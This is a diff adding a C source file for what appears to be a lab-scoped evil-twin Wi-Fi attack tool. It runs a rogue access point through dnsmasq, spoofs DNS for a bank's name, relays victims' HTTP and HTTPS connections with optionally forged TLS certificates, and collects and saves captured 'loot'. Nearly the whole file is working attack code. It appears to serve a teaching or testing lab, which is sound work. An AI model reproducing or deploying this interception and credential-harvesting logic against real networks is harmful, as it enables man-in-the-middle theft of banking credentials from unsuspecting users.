@@ -1,0 +1,321 @@
+#include "freewifi.h"
+
+#include <errno.h>
+#include <jansson.h>
+#include <signal.h>
+#include <sodium.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+#include <uv.h>
+
+#include "accesspoint.h"
+#include "loot.h"
+#include "relay.h"
+#include "uplink.h"
+
+enum { HTTP_PORT = 80, HTTPS_PORT = 443, READY_MS = 5000 };
+
+struct freewifi {
+	const struct freewifi_options *opt;
+	struct trace *trace;
+	uv_loop_t loop;
+	uv_poll_t stop, input;
+	uv_timer_t ready;
+	bool loop_made, watching_stop, watching_input;
+	struct lan lan;
+	struct uplink uplink;
+	struct accesspoint ap;
+	bool ap_started;
+	struct relay *relay;
+	SSL_CTX *server_ctx, *client_ctx;
+	struct loot loot;
+	bool stopping;
+	enum err err;
+	char *msg; /* 256 octets */
+};
+
+static enum err fail(struct freewifi *f, enum err e, const char *fmt, ...) PRINTF_LIKE(3, 4);
+
+static enum err fail(struct freewifi *f, enum err e, const char *fmt, ...)
+{
+	va_list ap;
+	va_start(ap, fmt);
+	vsnprintf(f->msg, 256, fmt, ap);
+	va_end(ap);
+	f->err = e;
+	return e;
+}
+
+/* --- the end --- */
+
+static void close_watch(bool *on, void *handle)
+{
+	if (*on)
+		uv_close(handle, NULL);
+	*on = false;
+}
+
+/* Closes every handle, so that uv_run() comes back. */
+static void stop(struct freewifi *f)
+{
+	if (f->stopping)
+		return;
+	f->stopping = true;
+	if (f->relay)
+		relay_stop(f->relay);
+	if (f->ap_started)
+		accesspoint_stop(&f->ap);
+	close_watch(&f->watching_stop, &f->stop);
+	close_watch(&f->watching_input, &f->input);
+	if (!uv_is_closing((uv_handle_t *)&f->ready))
+		uv_close((uv_handle_t *)&f->ready, NULL);
+}
+
+static void on_stop(uv_poll_t *h, int status, int events)
+{
+	(void)status;
+	(void)events;
+	stop(h->data);
+}
+
+static void on_input(uv_poll_t *h, int status, int events)
+{
+	(void)events;
+	struct freewifi *f = h->data;
+	char ignored[256];
+	ssize_t n = status ? 0 : read(f->opt->stdin_fd, ignored, sizeof ignored);
+	if (n == 0 || (n < 0 && errno != EAGAIN && errno != EINTR))
+		stop(f);
+}
+
+static void on_accesspoint(void *ctx)
+{
+	struct freewifi *f = ctx;
+	if (f->ap.ended) {
+		fail(f, ERR_INTERNAL, "dnsmasq ended: %s",
+		    f->ap.last_line[0] ? f->ap.last_line : "it said nothing; is dnsmasq-base installed?");
+		stop(f);
+		return;
+	}
+	uv_timer_stop(&f->ready);
+	ev_decision(f->trace, "ready", NULL,
+	    "the network is open: addresses by DHCP, lies about %s by DNS, http%s", FREEWIFI_BANK,
+	    f->server_ctx ? " and https in the bank's place"
+	                  : " in the bank's place, https passed on untouched");
+	trace_flush(f->trace);
+}
+
+static void on_late(uv_timer_t *h)
+{
+	struct freewifi *f = h->data;
+	fail(f, ERR_TIMEOUT, "dnsmasq did not start: %s", f->ap.last_line);
+	stop(f);
+}
+
+/* --- the begin --- */
+
+static enum err find_places(struct freewifi *f)
+{
+	if (lan_find(&f->lan))
+		return fail(f, ERR_UNSUPPORTED,
+		    "this host has no LAN beside its way out: is this the lab's mallory?");
+	enum err e = uplink_resolve(&f->uplink.bank, FREEWIFI_BANK, f->opt->limit_ns);
+	if (e)
+		return fail(f, e == ERR_NEGATIVE ? ERR_UNREACHABLE : e,
+		    "the real resolver gives no address for %s (%s): is the lab up?", FREEWIFI_BANK,
+		    err_text(e));
+	char self[IP_TEXT], bank[IP_TEXT];
+	ev_state(f->trace, "places", "the victims' network", NULL, ip_text(self, &f->lan.self),
+	    "on interface %s", f->lan.ifname);
+	ev_state(f->trace, "places", FREEWIFI_BANK, NULL, ip_text(bank, &f->uplink.bank),
+	    "the true one, by the real resolver");
+	return ERR_OK;
+}
+
+static enum err make_contexts(struct freewifi *f)
+{
+	enum tls_attack a = f->opt->tls;
+	char line[200] = "";
+	if (a != TLS_NONE) {
+		enum err e =
+		    forge_context(&f->server_ctx, a, FREEWIFI_BANK, f->opt->clock, TRUE_KEY, TRUE_CHAIN);
+		if (e == ERR_IO)
+			return fail(f, e,
+			    "%s or %s cannot be read: glasslab up makes them, on this host only", TRUE_KEY,
+			    TRUE_CHAIN);
+		if (!e)
+			e = client_context(&f->client_ctx);
+		if (e)
+			return fail(f, e, "OpenSSL could not make a certificate");
+		forge_describe(f->server_ctx, line, sizeof line);
+	}
+	ev_decision(f->trace, "certificate", "RFC 5280 6", "to whoever comes by https mallory shows %s%s%s%s",
+	    tls_attack_text(a), line[0] ? " (" : "", line, line[0] ? ")" : "");
+	return ERR_OK;
+}
+
+static int listening_socket(const struct ip *ip, uint16_t port)
+{
+	struct endpoint at = {*ip, port};
+	struct sockaddr_storage sa;
+	socklen_t len = endpoint_to_sockaddr(&sa, &at);
+	int fd = socket(sa.ss_family, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
+	if (fd < 0)
+		return -1;
+	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &(int){1}, sizeof(int));
+	if (bind(fd, (struct sockaddr *)&sa, len) || listen(fd, RELAY_MAX_CONNECTIONS)) {
+		int saved = errno;
+		close(fd);
+		errno = saved;
+		return -1;
+	}
+	return fd;
+}
+
+static enum err serve(struct freewifi *f, const struct relay_service *service)
+{
+	int fd = listening_socket(&f->lan.self, service->port);
+	if (fd < 0)
+		return fail(f, errno == EACCES ? ERR_PERM : ERR_NET, "cannot listen on port %u: %s",
+		    service->port, strerror(errno));
+	enum err e = relay_listen(f->relay, fd, service);
+	return e ? fail(f, e, "cannot listen on port %u", service->port) : ERR_OK;
+}
+
+static enum err start_relay(struct freewifi *f)
+{
+	struct relay_config cfg = {.loop = &f->loop,
+	    .trace = f->trace,
+	    .loot = &f->loot,
+	    .self = FREEWIFI_SELF,
+	    .bank_name = FREEWIFI_BANK,
+	    .rewrite = f->opt->rewrite,
+	    .limit_ms = (uint64_t)(f->opt->limit_ns / NS_PER_MS),
+	    .dial = uplink_dial,
+	    .dial_ctx = &f->uplink,
+	    .name_victim = accesspoint_name,
+	    .name_ctx = &f->ap};
+	enum err e = relay_new(&f->relay, &cfg);
+	if (e)
+		return fail(f, e, "out of memory");
+	struct relay_service http = {.scheme = "http", .port = HTTP_PORT};
+	struct relay_service https = {.scheme = "https",
+	    .server_ctx = f->server_ctx,
+	    .client_ctx = f->client_ctx,
+	    .blind = f->opt->tls == TLS_NONE,
+	    .port = HTTPS_PORT};
+	e = serve(f, &http);
+	return e ? e : serve(f, &https);
+}
+
+static enum err watch_fd(struct freewifi *f, uv_poll_t *h, bool *on, int fd, uv_poll_cb cb)
+{
+	if (fd < 0)
+		return ERR_OK;
+	if (uv_poll_init(&f->loop, h, fd) || uv_poll_start(h, UV_READABLE, cb))
+		return fail(f, ERR_INTERNAL, "cannot wait for the end of standard input");
+	h->data = f;
+	*on = true;
+	return ERR_OK;
+}
+
+static enum err start(struct freewifi *f)
+{
+	enum err e = find_places(f);
+	if (!e)
+		e = make_contexts(f);
+	if (!e)
+		e = start_relay(f);
+	if (!e)
+		e = watch_fd(f, &f->stop, &f->watching_stop, f->opt->stop_fd, on_stop);
+	if (!e)
+		e = watch_fd(f, &f->input, &f->watching_input, f->opt->stdin_fd, on_input);
+	if (e)
+		return e;
+	f->ap = (struct accesspoint){
+	    .trace = f->trace, .bank_name = FREEWIFI_BANK, .on_change = on_accesspoint, .ctx = f};
+	f->ap_started = true;
+	uv_timer_start(&f->ready, on_late, READY_MS, 0);
+	e = accesspoint_start(&f->ap, &f->loop, &f->lan);
+	return e ? fail(f, e, "dnsmasq could not be started") : ERR_OK;
+}
+
+/* --- what came of it --- */
+
+static json_t *leases_json(const struct accesspoint *a)
+{
+	json_t *all = json_array();
+	for (size_t i = 0; all && i < a->n_leases; i++)
+		json_array_append_new(all, json_pack("{s:s, s:s, s:s}", "address", a->leases[i].addr, "mac",
+		                               a->leases[i].mac, "name", a->leases[i].name));
+	return all;
+}
+
+static void emit_result(struct freewifi *f)
+{
+	char line[400];
+	size_t n = 0;
+	const struct loot *l = &f->loot;
+	for (size_t i = 0; i < l->n && n < sizeof line; i++)
+		n += (size_t)snprintf(
+		    line + n, sizeof line - n, "%s%s=%s", i ? ", " : "", l->items[i].key, l->items[i].value);
+	json_t *o = json_pack("{s:s, s:b, s:o, s:o, s:o, s:i}", "tls", tls_attack_name(f->opt->tls),
+	    "rewrite", f->opt->rewrite, "loot", loot_json(l), "connections", relay_json(f->relay), "leases",
+	    leases_json(&f->ap), "dns_lies", (int)f->ap.lies);
+	char *data = o ? json_dumps(o, JSON_COMPACT) : NULL;
+	json_decref(o);
+	if (l->n)
+		ev_result(f->trace, ERR_OK, data, "mallory holds %s", line);
+	else
+		ev_result(f->trace, ERR_NEGATIVE, data, "mallory holds nothing, after %zu connections",
+		    relay_n_records(f->relay));
+	sodium_memzero(line, sizeof line);
+	if (data)
+		sodium_memzero(data, strlen(data));
+	free(data);
+}
+
+static void release(struct freewifi *f)
+{
+	stop(f);
+	uv_run(&f->loop, UV_RUN_DEFAULT); /* every handle is closing: this ends */
+	uv_loop_close(&f->loop);
+	relay_free(f->relay);
+	SSL_CTX_free(f->server_ctx);
+	SSL_CTX_free(f->client_ctx);
+	loot_release(&f->loot);
+}
+
+enum err freewifi_run(const struct freewifi_options *opt, struct trace *t, char msg[static 256])
+{
+	struct freewifi *f = calloc(1, sizeof *f);
+	msg[0] = '\0';
+	if (!f)
+		return ERR_NOMEM;
+	f->opt = opt;
+	f->trace = t;
+	f->msg = msg;
+	loot_init(&f->loot);
+	signal(SIGPIPE, SIG_IGN); /* OpenSSL writes to sockets that victims have closed */
+	if (uv_loop_init(&f->loop)) {
+		free(f);
+		return ERR_NOMEM;
+	}
+	uv_timer_init(&f->loop, &f->ready);
+	f->ready.data = f;
+	if (start(f) == ERR_OK)
+		uv_run(&f->loop, UV_RUN_DEFAULT);
+	if (f->err == ERR_OK) {
+		emit_result(f);
+		f->err = f->loot.n ? ERR_OK : ERR_NEGATIVE;
+		if (opt->loot_file && loot_write(&f->loot, opt->loot_file))
+			fail(f, ERR_IO, "%s cannot be written: %s", opt->loot_file, strerror(errno));
+	}
+	enum err e = f->err;
+	release(f);
+	free(f);
+	return e;
+}
